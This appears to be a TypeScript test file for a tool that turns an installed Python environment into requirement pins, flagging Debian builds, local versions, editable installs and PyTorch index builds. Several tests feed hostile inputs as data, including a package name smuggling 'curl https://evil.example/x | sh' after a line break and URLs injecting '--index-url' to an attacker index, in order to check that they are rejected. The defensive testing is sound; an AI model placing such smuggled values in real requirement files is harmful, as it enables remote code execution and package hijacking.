import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { PackageInfo } from '../domain';
import { cudaEnv, debianEnv, environment, VCS_COMMIT } from './environments.testkit';
import { classifyPackage, classifyPins, describeFlagged, extraIndexUrls, normalizeName, type Pin } from './pins';

function byName(pins: Pin[], name: string): Pin {
  const pin = pins.find((p) => p.name === name);
  assert.ok(pin, `no pin for ${name}`);
  return pin;
}

function pkg(name: string, version: string, extra: Partial<PackageInfo> = {}): Pin {
  return classifyPackage({ name, version, location: '/venv/lib/python3.11/site-packages', ...extra });
}

test('the Debian demo: every pin judged, in normalised-name order', () => {
  const pins = classifyPins(debianEnv());
  assert.deepEqual(
    pins.map((p) => [p.name, p.problem?.kind ?? null]),
    [
      ['attrs', null],
      ['kiwisolver', 'placeholder-version'],
      ['localwheel', 'local-path'],
      ['mylib', 'editable'],
      ['numpy', null],
      ['python-apt', 'system-only'],
      ['scikit-learn', null],
      ['six', null],
      ['torch', 'local-version'],
    ],
  );
  assert.equal(byName(pins, 'numpy').requirement, 'numpy==1.24.2');
  assert.equal(byName(pins, 'scikit-learn').requirement, 'scikit-learn==1.2.1');
});

test("Debian's source-built torch: a local build, the nearest release or the Debian package instead", () => {
  const torch = byName(classifyPins(debianEnv()), 'torch');
  assert.equal(torch.requirement, 'torch==1.13.0a0+gitunknown');
  assert.match(torch.problem?.reason ?? '', /local build \(label \+gitunknown\)/);
  assert.match(
    torch.problem?.reason ?? '',
    /Debian's build, from \/usr\/lib\/python3\/dist-packages \(package probably python3-torch\)/,
  );
  assert.match(
    torch.problem?.instead ?? '',
    /nearest release, e.g\. torch>=1\.13,<1\.14, or the Debian package python3-torch/,
  );
});

test('a local label on a final release suggests the public release', () => {
  const p = pkg('lightgbm', '4.1.0+local.build');
  assert.equal(p.problem?.kind, 'local-version');
  assert.match(p.problem?.instead ?? '', /lightgbm==4\.1\.0\b/);
  assert.doesNotMatch(p.problem?.reason ?? '', /Debian/);
});

test("kiwisolver's 0.0.0 and an empty version are placeholders", () => {
  const kiwi = byName(classifyPins(debianEnv()), 'kiwisolver');
  assert.match(kiwi.problem?.reason ?? '', /Debian's build \(python3-kiwisolver\)/);
  assert.match(kiwi.problem?.instead ?? '', /unpinned/);
  assert.equal(pkg('x', '').problem?.kind, 'placeholder-version');
  assert.equal(pkg('x', '0.0').problem?.kind, 'placeholder-version');
  assert.equal(pkg('x', '0.0.1').problem, null);
});

test('a version that is not PEP 440 is invalid', () => {
  const p = pkg('weird', '1.0-custom-build');
  assert.equal(p.problem?.kind, 'invalid-version');
  assert.match(p.problem?.reason ?? '', /not a PEP 440 version/);
});

test('OS-only packages say which apt package to install', () => {
  const apt = byName(classifyPins(debianEnv()), 'python-apt');
  assert.match(apt.problem?.instead ?? '', /apt-get install python3-apt/);
  assert.equal(pkg('Unattended_Upgrades', '2.9').problem?.kind, 'system-only');
});

test('editable and file:// installs name the path; VCS and https archives are direct references', () => {
  const pins = classifyPins(debianEnv());
  const mylib = byName(pins, 'mylib');
  assert.match(mylib.problem?.reason ?? '', /\/home\/dev\/src\/mylib/);
  assert.match(mylib.problem?.instead ?? '', /pip install -e \/home\/dev\/src\/mylib/);
  const wheel = byName(pins, 'localwheel');
  assert.match(wheel.problem?.reason ?? '', /\/home\/dev\/wheels\/localwheel-2\.0\.0-py3-none-any\.whl/);
  assert.match(wheel.problem?.instead ?? '', /--find-links/);
  assert.equal(
    byName(pins, 'attrs').requirement,
    `attrs @ git+https://github.com/python-attrs/attrs.git@${VCS_COMMIT}`,
  );
  assert.match(byName(pins, 'six').requirement, /^six @ https:\/\/files\.pythonhosted\.org\//);
  const nonEditableDir = pkg('proj', '1.0', { directUrl: { url: 'file:///srv/proj', dir_info: {} } });
  assert.equal(nonEditableDir.problem?.kind, 'local-path');
  const localGit = pkg('proj', '1.0', {
    directUrl: { url: 'file:///srv/proj.git', vcs_info: { vcs: 'git', commit_id: 'ab' } },
  });
  assert.equal(localGit.problem?.kind, 'local-path');
  const sub = pkg('sub', '1.0', {
    directUrl: { url: 'git+https://h/r', subdirectory: 'py', vcs_info: { vcs: 'git', commit_id: 'c0' } },
  });
  assert.equal(sub.requirement, 'sub @ git+https://h/r@c0#subdirectory=py');
});

test('a direct_url.json that is no PEP 610 record (or holds a line break) is ignored', () => {
  assert.equal(pkg('a', '1.0', { directUrl: 'nonsense' }).requirement, 'a==1.0');
  assert.equal(
    pkg('a', '1.0', { directUrl: { url: 'https://x/a.whl\nevil==1', archive_info: {} } }).requirement,
    'a==1.0',
  );
});

test("PyTorch's CUDA, CPU and ROCm builds come from its own index; nightlies and other labels do not", () => {
  const pins = classifyPins(cudaEnv());
  const torch = byName(pins, 'torch');
  assert.equal(torch.problem, null);
  assert.equal(torch.requirement, 'torch==2.1.0+cu121');
  assert.equal(torch.extraIndexUrl, 'https://download.pytorch.org/whl/cu121');
  assert.deepEqual(extraIndexUrls(pins), ['https://download.pytorch.org/whl/cu121']);
  assert.equal(pkg('torchaudio', '2.1.0+cpu').extraIndexUrl, 'https://download.pytorch.org/whl/cpu');
  assert.equal(pkg('torch', '2.0.1+rocm5.4.2').extraIndexUrl, 'https://download.pytorch.org/whl/rocm5.4.2');
  assert.equal(pkg('torch', '2.2.0.dev20231010+cu121').problem?.kind, 'local-version');
  assert.equal(pkg('torch', '2.0.0+gitabc123').problem?.kind, 'local-version');
  assert.equal(pkg('numpy', '1.26.4+cu121').problem?.kind, 'local-version', 'only PyTorch packages are on its index');
});

test('names normalise per PEP 503; one pin per package', () => {
  assert.equal(normalizeName('Scikit_Learn.Extra'), 'scikit-learn-extra');
  const env = environment('/usr/bin/python3', '3.11.2', [
    { name: 'Zope.Interface', version: '6.0', location: '/a' },
    { name: 'zope-interface', version: '5.0', location: '/b' },
    { name: 'attrs', version: '23.1.0', location: '/a' },
  ]);
  assert.deepEqual(
    classifyPins(env).map((p) => p.requirement),
    ['attrs==23.1.0', 'Zope.Interface==6.0'],
  );
});

test('the flagged description is one line whatever the recorded path holds', () => {
  const p = pkg('mylib', '0.1', { directUrl: { url: 'file:///home/a%0Aevil==1', dir_info: { editable: true } } });
  assert.equal(p.problem?.kind, 'editable');
  assert.ok(!describeFlagged(p).includes('\n'));
});

test('a name that is no PEP 508 name, or a version that is no string, is invalid-name and never installable', () => {
  const hostile = [
    '--index-url=https://evil.example/simple',
    '-e',
    'numpy\nRUN curl https://evil.example/x | sh',
    'numpy ',
    '',
    '.hidden',
    'trailing-',
    'a;b',
    'x\u2028y',
  ];
  for (const name of hostile) {
    const p = pkg(name, '1.0');
    assert.equal(p.problem?.kind, 'invalid-name', JSON.stringify(name));
    assert.equal(
      p.problem?.reason,
      `${JSON.stringify(name).replace(/\u2028/g, '\\u2028')} is not a valid package name.`,
    );
    assert.equal(p.problem?.instead, 'Check where this record came from.');
    assert.doesNotMatch(p.name, /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/);
  }
  for (const name of ['a', 'A1', 'zope.interface', 'scikit_learn', 'torch-2']) {
    assert.notEqual(pkg(name, '1.0').problem?.kind, 'invalid-name', name);
  }
  const long = pkg(`-${'x'.repeat(200)}`, '1.0');
  assert.equal(Array.from((long.problem?.reason ?? '').replace(/ is not a valid package name\.$/, '')).length, 80);
});

test('non-string names and versions from a record do not throw', () => {
  const cases: unknown[] = [
    { name: 42, version: '1.0' },
    { name: null, version: '1.0' },
    { name: { evil: true }, version: '1.0' },
    { version: '1.0' },
    { name: 'numpy', version: 1.26 },
    { name: 'numpy', version: null },
    { name: 'numpy' },
    null,
  ];
  for (const raw of cases) {
    const p = classifyPackage(raw as PackageInfo);
    assert.equal(p.problem?.kind, 'invalid-name', JSON.stringify(raw));
    assert.equal(typeof p.name, 'string');
    assert.equal(typeof p.version, 'string');
  }
  assert.match(
    pkg('numpy', 1.26 as unknown as string).problem?.reason ?? '',
    /^numpy's version 1\.26 is not a string\.$/,
  );
  const env = environment('/usr/bin/python3', '3.11.2', [
    ...(cases as PackageInfo[]),
    { name: 'attrs', version: '23.1.0', location: '/a' },
  ]);
  const pins = classifyPins(env);
  assert.deepEqual(
    pins.filter((p) => p.problem === null).map((p) => p.requirement),
    ['attrs==23.1.0'],
  );
});

test('every flagged description is one line without control characters, whatever the record holds', () => {
  const nasty = 'x\r\ny\u0085z\u000bw\u001c\u2028\u2029\u202e\u0000\u007f\t';
  const pins = [
    pkg(`evil${nasty}`, '1.0'),
    pkg('weird', `1.0${nasty}`),
    pkg('mylib', '0.1', {
      directUrl: { url: `file:///home/a${encodeURIComponent(nasty)}`, dir_info: { editable: true } },
    }),
  ];
  for (const p of pins) {
    assert.ok(p.problem, p.name);
    assert.doesNotMatch(describeFlagged(p), /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/, p.name);
  }
});

test('a direct URL holding a control character at which pip would split the line is ignored', () => {
  for (const ch of ['\u001c', '\u001d', '\u001e', '\u0085', '\u000b', '\u0000']) {
    const p = pkg('a', '1.0', { directUrl: { url: `https://x/a.whl${ch}--index-url=https://evil`, archive_info: {} } });
    assert.equal(p.requirement, 'a==1.0', JSON.stringify(ch));
  }
});
